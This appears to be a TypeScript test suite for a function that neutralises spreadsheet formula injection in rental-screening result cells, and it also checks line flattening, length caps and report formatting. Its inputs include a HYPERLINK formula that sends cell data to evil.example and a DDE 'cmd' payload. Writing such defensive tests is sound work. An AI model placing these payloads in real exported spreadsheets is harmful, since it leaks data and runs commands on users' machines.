import fc from 'fast-check';

import {
	readRow,
	safeCell,
	safeTexts,
	shownAs,
	type Format,
} from '../../../nodes/RentalScreening/results/cells.ts';

describe('text for a spreadsheet', () => {
	test.each([
		...[
			'=1+1',
			'=HYPERLINK("http://evil.example?"&A1,"Click")',
			'+1+1',
			'+cmd|" /C calc"!A0',
			'-1-1',
		],
		...['-', '@SUM(A1)', '\t=1+1', ' =1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u0000=1+1'],
		...['+1-416-555-0100', '+1 416 555 0100', '-12.5+1', '+14165550100=1', "'=1+1", "' '+1+1"],
	])('gets a word in front: %j', (text) => {
		expect(safeCell(text)).toBe(`Text: ${text}`);
	});

	test.each([
		...['', 'Jane', '2026-03-01', '12 Maple Street', 'a=b', 'jane@example.com', '(+1)'],
		...["'Twas nice", 'Text: =1+1', '\tplain', '＝1+1'],
	])('stays as it is where nothing takes it for a formula: %j', (text) => {
		expect(safeCell(text)).toBe(text);
	});

	test.each(['+14165550100', '-12.5', '-3', '+0.25'])('stays a phone or a number: %s', (text) => {
		expect(safeCell(text)).toBe(text);
	});

	test.each([
		['a'.repeat(32_767), 'a'.repeat(32_767)],
		['a'.repeat(32_768), `${'a'.repeat(32_766)}…`],
		[`=${'a'.repeat(32_767)}`, `Text: =${'a'.repeat(32_759)}…`],
		[`${'a'.repeat(32_765)}😀bc`, `${'a'.repeat(32_765)}…`],
		[`😀${'a'.repeat(32_766)}`, `😀${'a'.repeat(32_764)}…`],
	])('is at most as long as a cell may be (case %#)', (text, expected) => {
		expect(safeCell(text)).toBe(expected);
	});

	test.each([
		['Smith\r=cmd|x', 'Smith =cmd|x'],
		['Smith\n=1+1', 'Smith =1+1'],
		['Smith\r\n=1+1', 'Smith =1+1'],
		['a\v\fb', 'a  b'],
		['a\u0085b\u2028c\u2029d', 'a b c d'],
		['\rplain', ' plain'],
		['\r=1+1', 'Text:  =1+1'],
		['\n\n@x', 'Text:   @x'],
		['\u2028+1+1', 'Text:  +1+1'],
		['-12.5\n=1', 'Text: -12.5 =1'],
	])('becomes one line: %j', (text, expected) => {
		expect(safeCell(text)).toBe(expected);
	});

	test('is one line, never begins like a formula and loses nothing but line breaks', () => {
		const lineBreaks = /\r\n|[\n\v\f\r\u0085\u2028\u2029]/g;
		const starts = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\u2028', '\v=');
		fc.assert(
			fc.property(fc.string({ unit: 'binary' }), starts, (rest, start) => {
				const text = `${start}${rest}`.replace(lineBreaks, ' ');
				const safe = safeCell(start + rest);
				expect([text, `Text: ${text}`]).toContain(safe);
				if (/^\s*[=+\-@]/.test(safe)) expect(Number.isFinite(Number(safe))).toBe(true);
			}),
		);
	});
});

test.each(['-NxYz_0123', '+abC/9==', '=1+1', "'x", 'a\nb', '0'.repeat(40_000)])(
	'an ID stays as the service gave it, because later steps send it back (case %#)',
	(id) => {
		const read = (given: string) => given;
		expect(readRow([{ name: 'userId', format: 'id', read }], id)).toEqual({ userId: id });
	},
);

test('each text of a flat answer is a safe cell; its IDs and all else stay', () => {
	const answer = {
		id: '=1',
		userId: '+abC/9==',
		note: '=1+1',
		score: -5,
		done: true,
		list: ['=1'],
		none: null,
	};
	expect(safeTexts(answer)).toEqual({ ...answer, note: 'Text: =1+1' });
});

describe('a value in a report', () => {
	test.each<[Format, unknown, string | null]>([
		['number', 2100, '2,100'],
		['number', 480.256, '480.26'],
		['number', -1234567.891, '-1,234,567.89'],
		['number', '6250', '6,250'],
		['number', 0, '0'],
		['number', 1e300, `1${',000'.repeat(7)}…`],
		['number', 'a lot', null],
		['number', null, null],
		['date', '2026-03-01', '2026-03-01'],
		['date', '2026-03-01T14:22:05.000Z', '2026-03-01'],
		['date', 'on 2026-03-01T14', 'on 2026-03-01T14'],
		['date', 'since spring', 'since spring'],
		['date', '', null],
		['term', 'FULL_TIME', 'Full time'],
		['term', 'CHECK_TYPE_DEEP_CHECK', 'Deep check'],
		['term', 'A_CHECK_TYPE_X', 'A check type x'],
		['term', 'bi-weekly', 'bi-weekly'],
		['term', null, null],
		['text', 'FULL_TIME', 'FULL_TIME'],
		['text', ' a\r\n b\u0000\u202Ec\uD800 ', 'a bc'],
		['text', '\u200B', null],
		['text', 'a'.repeat(90), 'a'.repeat(90)],
		['text', 'a'.repeat(91), `${'a'.repeat(89)}…`],
		['prose', 'a'.repeat(321), `${'a'.repeat(319)}…`],
		['boolean', true, 'true'],
	])('as %s: %j is shown as %j', (format, value, shown) => {
		expect(shownAs(format, value)).toBe(shown);
	});
});
